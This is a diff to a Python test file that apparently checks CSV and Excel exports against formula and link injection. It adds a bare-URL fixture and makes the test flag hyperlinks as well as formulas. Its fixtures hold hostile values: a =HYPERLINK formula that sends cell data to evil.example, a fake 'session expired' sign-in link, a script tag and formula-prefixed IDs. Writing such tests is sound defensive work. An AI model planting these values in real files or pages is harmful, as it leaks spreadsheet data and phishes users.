@@ -34,6 +34,7 @@ HOSTILE = ('=HYPERLINK("http://evil.example/?x="&B2,"x") **bold** <b>tag</b> '
            "[Session expired - sign in again](https://evil.example/login) <script>alert(1)</script>")
 SHORT = "@SUM(1)<b>[x](https://evil.example)"  # ids and codes: 64 characters at most
 FORMULA = ("=", "+", "-", "@")
+BARE_URL = "https://evil.example/login"
 
 
 # a file name can hold everything but a slash
@@ -52,7 +53,7 @@ def _load_hostile(db: Database, folder: Path) -> None:
         {"visit_id": f"{SHORT}{d}{i}", "hall_id": "H9", "arrived_at": f"2026-03-0{d} 10:0{i}:00", "purpose": "enquiry",
          "called_at": f"2026-03-0{d} 10:1{i}:00", "left_at": f"2026-03-0{d} 10:2{i}:00", "staff_id": SHORT,
          "counter_id": SHORT, "segment": SHORT, "exit_score": str(1 + i % 5), "peak_score": "2",
-         "exit_comment": HOSTILE}
+         "exit_comment": HOSTILE if i else BARE_URL}  # a bare URL: xlsxwriter would make it a link
         for i in range(6) for d in (3, 8)
     ] + [{"visit_id": "+bad", "hall_id": "H9", "arrived_at": "2026-03-08 11:00:00", "purpose": "enquiry",
           "exit_score": "9", "exit_comment": HOSTILE}])
@@ -124,8 +125,10 @@ def test_every_csv_export_is_plain_text(hostile_db, tmp_path):
 
 
 def _formulas(book_bytes: bytes) -> list[str]:
+    """Cells a spreadsheet would run or follow: formulas, and hyperlinks (a bare URL)."""
     book = openpyxl.load_workbook(io.BytesIO(book_bytes))
-    return [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    return [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row
+            if c.data_type == "f" or c.hyperlink is not None]
 
 
 def test_every_excel_export_holds_no_formula(hostile_db, tmp_path):
